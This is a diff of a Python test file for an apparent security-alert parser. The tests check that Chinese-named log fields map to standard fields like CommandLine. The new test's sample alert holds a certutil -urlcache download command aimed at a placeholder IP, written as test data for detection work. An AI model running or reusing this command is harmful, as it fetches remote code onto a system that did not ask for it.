@@ -87,3 +87,8 @@ def test_an_investigation_knows_who_is_who(name: str, value: str, kind: str):
 def test_a_field_without_a_known_name_stays_unknown():
     assert by_field("天气", "晴") is None
     assert not of_alert(Alert(source="test", fields=(Field(path="天气", value="晴"),))).get("CommandLine")
+
+
+def test_rules_read_the_pairs_of_a_line_inside_an_alert():
+    event = of_alert(chinese(日志原文='proc_cmdline="certutil -urlcache -f http://203.0.113.9/a" user=li'))
+    assert event.first("CommandLine").startswith("certutil")
